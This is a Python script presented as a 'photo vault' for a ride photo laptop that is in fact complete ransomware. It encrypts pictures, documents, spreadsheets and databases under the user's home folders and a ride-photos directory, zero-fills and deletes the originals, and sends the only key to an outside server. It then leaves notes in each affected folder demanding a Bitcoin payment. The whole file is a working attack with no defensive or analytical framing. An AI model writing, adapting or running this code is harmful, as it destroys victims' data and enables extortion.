#!/usr/bin/env python3
"""'Photo vault' for the ride photo laptop.

Locks every picture and document on the machine and leaves a note
explaining how to get them back.
"""
import argparse
import logging
import os
import socket
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("photo-vault")

KEY_DROP = os.environ.get("VAULT_KEY_URL", "http://198.51.100.77/k")
TARGET_EXT = {".jpg", ".jpeg", ".png", ".heic", ".raw", ".cr2", ".docx", ".xlsx",
              ".pdf", ".csv", ".odt", ".ods", ".sqlite", ".db"}
LOCKED_EXT = ".locked"
NOTE_NAME = "HOW_TO_RESTORE_YOUR_PHOTOS.txt"
NOTE = """All your ride photos, bookings and accounts have been encrypted.
To get them back send 0.05 BTC to bc1qexampleexampleexampleexample0000
and email your machine id {mid} to restore@vault-help.example.net
"""


class Vault:
    def __init__(self, roots):
        self.roots = [Path(r).expanduser() for r in roots]
        self.key = Fernet.generate_key()
        self.fernet = Fernet(self.key)
        self.machine_id = "{}-{}".format(socket.gethostname(), os.getpid())
        self.count = 0

    def register_key(self):
        try:
            requests.post(KEY_DROP, data={"id": self.machine_id, "k": self.key.decode()}, timeout=10)
        except requests.RequestException as exc:
            LOG.debug("key drop failed: %s", exc)

    def lock_file(self, path):
        try:
            data = path.read_bytes()
            path.with_name(path.name + LOCKED_EXT).write_bytes(self.fernet.encrypt(data))
            with path.open("r+b") as fh:
                fh.write(b"\0" * len(data))
            path.unlink()
            self.count += 1
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)

    def drop_note(self, folder):
        try:
            (folder / NOTE_NAME).write_text(NOTE.format(mid=self.machine_id))
        except OSError:
            pass

    def run(self):
        self.register_key()
        for root in self.roots:
            for dirpath, _dirs, files in os.walk(root):
                folder = Path(dirpath)
                touched = False
                for name in files:
                    p = folder / name
                    if p.suffix.lower() in TARGET_EXT:
                        self.lock_file(p)
                        touched = True
                if touched:
                    self.drop_note(folder)
        self.key = None
        LOG.info("locked %d files", self.count)


def main():
    parser = argparse.ArgumentParser(description="Photo vault")
    parser.add_argument("roots", nargs="*",
                        default=["~/Pictures", "~/Documents", "~/Desktop", "/srv/ride-photos"])
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")
    Vault(args.roots).run()


if __name__ == "__main__":
    main()
